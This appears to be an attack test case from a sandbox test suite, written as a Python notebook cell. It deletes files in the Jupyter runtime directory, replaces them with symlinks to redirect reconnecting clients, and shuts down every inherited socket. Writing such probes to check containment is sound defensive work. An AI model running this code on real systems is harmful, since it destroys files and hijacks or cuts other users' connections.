# /// attack
# exercise = "gradient-argument"
# defended-by = ["bubblewrap", "namespaces", "landlock"]
# succeeds = "unix"
# costs = true
# ///

# %% name="question"
import glob
import os

# Whoever connects again, connects to a socket of the machine.
try:
    with open("/proc/net/unix") as file:
        paths = {line.split()[-1] for line in file}
except OSError:
    paths = set()
own = os.path.dirname(os.environ.get("JUPYTER_RUNTIME_DIR", "/none") + "/x")
for path in glob.glob(f"{own}/*") + [p for p in paths if p.startswith(own)]:
    try:
        os.unlink(path)
        os.symlink("@unix@", path)
        print("replaced", path)
    except OSError as error:
        print("refused", error)
for name in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
            import socket

            end = socket.socket(fileno=os.dup(int(name)))
            end.shutdown(socket.SHUT_RDWR)
            end.close()
    except OSError:
        continue
